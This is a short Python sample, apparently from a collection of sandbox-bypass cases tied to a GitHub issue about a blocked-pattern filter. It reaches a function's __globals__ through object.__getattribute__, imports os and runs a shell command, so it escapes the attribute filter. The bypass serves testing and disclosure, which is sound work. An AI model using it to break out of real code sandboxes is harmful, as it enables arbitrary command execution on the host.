# Source: https://github.com/VectorlyApp/bluebox/issues/126 (object.__getattribute__ not in BLOCKED_PATTERNS)
# Family: getattribute
# What: object.__getattribute__(func, '__globals__') bypasses an attribute filter
def f():
    pass

g = object.__getattribute__(f, "__globals__")
g["__builtins__"].__import__("os").system("id")
